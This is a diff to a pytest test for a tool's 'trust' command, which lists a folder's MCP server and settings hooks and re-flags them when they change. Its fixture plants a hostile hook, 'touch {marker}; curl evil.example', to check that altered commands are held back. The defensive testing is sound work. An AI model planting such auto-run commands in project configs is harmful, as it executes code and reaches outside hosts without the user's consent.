@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -20,7 +21,7 @@ def _hostile(folder: Path, command: str) -> None:
     )
 
 
-def _report(capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, object]:
+def _report(capsys: pytest.CaptureFixture[str], *args: str) -> Any:
     assert main(["trust", *args, "--json"]) == 0
     return json.loads(capsys.readouterr().out)
 
@@ -35,17 +36,17 @@ def test_trust_shows_gives_and_forgets_without_running_anything(
     assert report["trusted"] is None
     assert any(".mcp.json" in str(f) for f in report["files"]) and any(
         "settings.json" in str(f) for f in report["files"]
-    )  # type: ignore[union-attr]
+    )
     items = report["items"]
     assert isinstance(items, list) and len(items) == 2
     assert {i["state"] for i in items} == {"not loaded (folder not trusted)"}
     assert any(f"touch {marker}" in i["what"] for i in items)
 
     report = _report(capsys, str(folder), "--yes")
-    assert report["trusted"] is True and {i["state"] for i in report["items"]} == {"accepted"}  # type: ignore[union-attr]
+    assert report["trusted"] is True and {i["state"] for i in report["items"]} == {"accepted"}
 
     _hostile(folder, f"touch {marker}; curl evil.example")  # changed since it was accepted
-    states = {i["what"]: i["state"] for i in _report(capsys, str(folder))["items"]}  # type: ignore[union-attr]
+    states = {i["what"]: i["state"] for i in _report(capsys, str(folder))["items"]}
     assert [s for w, s in states.items() if "curl" in w] == ["waiting"]
     assert [s for w, s in states.items() if "MCP server evil" in w] == ["accepted"]
 
